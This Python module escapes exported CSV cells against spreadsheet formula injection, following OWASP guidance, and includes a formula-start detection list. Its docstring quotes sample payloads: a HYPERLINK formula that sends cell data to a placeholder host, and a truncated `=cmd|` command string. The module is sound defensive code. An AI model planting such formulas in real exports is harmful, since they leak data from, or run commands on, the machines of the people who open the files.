"""CSV for spreadsheets: every exported cell is safe from formula (CSV) injection.

OWASP's CSV-injection guidance: a cell whose first character is `=`, `+`, `-`, `@`, a tab or a
carriage return (its later revision adds line feed; ASVS 1.2.10 adds NUL) may be run as a formula
by Excel, LibreOffice or Google Sheets, e.g. an imported legacy id `=HYPERLINK("http://x/?"&A1)`.
Such a cell is prefixed with a single quote, which the spreadsheet shows as text and does not
evaluate. Every cell is also wrapped in double quotes (OWASP: "wrap each cell field in double
quotes"; RFC 4180 2.6-2.7 for the quotes inside): a spreadsheet in a locale whose separator is `;`
(or one that splits on tabs) would otherwise cut `X;=cmd|...` into a second cell that starts with `=`.

One exception, on purpose: a cell that is exactly a plain decimal number (`-12.50`, `42`, `0.5`)
is written as it is. A spreadsheet reads it as a number, which can carry no function call or
reference, and a report's negative amounts must stay numbers that SUM adds (an escaped `'-12.50`
would be text). Anything else that starts with `-` (`-1+2`, `-A1`, `-cmd|...`) is escaped.

Every CSV export in the code base writes through `writer` / `dict_writer` here (a test checks).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# OWASP's list (= + - @ tab CR), plus LF (OWASP's 2025 revision) and NUL (ASVS 1.2.10).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
# A separator some spreadsheet may split on (`;` locales, tabs), followed by a formula start: the piece
# after it would become a cell of its own, so it is escaped too.
_INNER_FORMULA = re.compile(r"([;,\t])(?=[=+\-@])")


def escape_cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet could run as a formula gets a leading `'`."""
    if value is None or isinstance(value, (bool, int, float)):
        return value  # csv writes these as plain numbers (or empty / True / False)
    text = value if isinstance(value, str) else str(value)
    if _PLAIN_NUMBER.fullmatch(text):
        return text
    text = _INNER_FORMULA.sub(r"\1'", text)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """`csv.writer` with every cell escaped and quoted (a lone CR or a `;` stays inside its cell)."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **{**kwargs, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` with every cell escaped (the header row too)."""

    def __init__(self, out: Any, fieldnames: Sequence[str], **kwargs: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(out, fieldnames=self.fieldnames, **{**kwargs, "quoting": csv.QUOTE_ALL})

    def writeheader(self) -> Any:
        return self.writerow({f: f for f in self.fieldnames})

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({k: escape_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)


def dict_writer(out: Any, fieldnames: Sequence[str], **kwargs: Any) -> SafeDictWriter:
    return SafeDictWriter(out, fieldnames, **kwargs)


__all__ = ["FORMULA_START", "SafeDictWriter", "SafeWriter", "dict_writer", "escape_cell", "writer"]
